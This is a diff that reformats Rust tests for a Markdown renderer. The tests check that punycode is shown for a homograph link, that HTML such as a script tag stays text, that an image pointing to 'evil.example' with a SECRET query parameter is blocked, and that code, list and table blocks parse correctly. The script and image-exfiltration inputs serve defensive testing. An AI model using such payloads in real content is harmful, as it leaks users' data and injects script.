@@ -41,7 +41,10 @@ fn r2_w15_w22_only_web_and_mail_links_are_alive() {
         assert!(alive || text.contains("dead_link"), "{target}: {text}");
     }
     let homograph = json("[x](https://аpple.com/)");
-    assert!(homograph.contains("https://xn--pple-43d.com/"), "u07: {homograph}");
+    assert!(
+        homograph.contains("https://xn--pple-43d.com/"),
+        "u07: {homograph}"
+    );
 }
 
 #[test]
@@ -53,26 +56,59 @@ fn r3_w01_html_stays_text_and_pictures_are_never_loaded() {
         "<script>alert(1)</script>",
     ] {
         let text = json(source);
-        assert!(text.contains("verbatim") || text.contains("\"t\":\"text\""), "{text}");
+        assert!(
+            text.contains("verbatim") || text.contains("\"t\":\"text\""),
+            "{text}"
+        );
     }
     let picture = json("![alt](https://evil.example/?d=SECRET)");
-    assert!(picture.contains("blocked_image") && picture.contains("evil.example"), "{picture}");
+    assert!(
+        picture.contains("blocked_image") && picture.contains("evil.example"),
+        "{picture}"
+    );
 }
 
 #[test]
 fn code_lists_tables_and_tasks_have_their_shape() {
-    let blocks = markdown("```rust\nlet a = 1; // one\n```\n\n- [x] done\n- [ ] open\n  - inner\n\n|a|b|\n|:-|-:|\n|1|2|\n");
-    let RichBlock::Code { language, lines } = &blocks[0] else { panic!("{blocks:?}") };
+    let blocks = markdown(
+        "```rust\nlet a = 1; // one\n```\n\n- [x] done\n- [ ] open\n  - inner\n\n|a|b|\n|:-|-:|\n|1|2|\n",
+    );
+    let RichBlock::Code { language, lines } = &blocks[0] else {
+        panic!("{blocks:?}")
+    };
     assert_eq!((language.as_str(), lines.len()), ("rust", 1));
-    let roles: Vec<_> = lines[0].iter().map(|span| (span.role, span.text.as_str())).collect();
+    let roles: Vec<_> = lines[0]
+        .iter()
+        .map(|span| (span.role, span.text.as_str()))
+        .collect();
     use cairn_protocol::CodeRole::{Comment, Constant, Keyword};
-    assert!(roles.iter().any(|(role, text)| *role == Keyword && text.contains("let")), "{roles:?}");
-    assert!(roles.iter().any(|(role, text)| *role == Constant && *text == "1"), "{roles:?}");
-    assert!(roles.iter().any(|(role, text)| *role == Comment && text.contains("one")), "{roles:?}");
-    let RichBlock::List { start: None, items } = &blocks[1] else { panic!("{blocks:?}") };
-    assert_eq!(items.iter().map(|item| item.checked).collect::<Vec<_>>(), [Some(true), Some(false)]);
+    assert!(
+        roles
+            .iter()
+            .any(|(role, text)| *role == Keyword && text.contains("let")),
+        "{roles:?}"
+    );
+    assert!(
+        roles.iter().any(|(role, text)| *role == Constant && *text == "1"),
+        "{roles:?}"
+    );
+    assert!(
+        roles
+            .iter()
+            .any(|(role, text)| *role == Comment && text.contains("one")),
+        "{roles:?}"
+    );
+    let RichBlock::List { start: None, items } = &blocks[1] else {
+        panic!("{blocks:?}")
+    };
+    assert_eq!(
+        items.iter().map(|item| item.checked).collect::<Vec<_>>(),
+        [Some(true), Some(false)]
+    );
     assert!(words(&items[1].blocks).contains("inner"));
-    let RichBlock::Table { align, head, rows } = &blocks[2] else { panic!("{blocks:?}") };
+    let RichBlock::Table { align, head, rows } = &blocks[2] else {
+        panic!("{blocks:?}")
+    };
     assert_eq!((align.len(), head.len(), rows.len()), (2, 2, 1));
 }
 
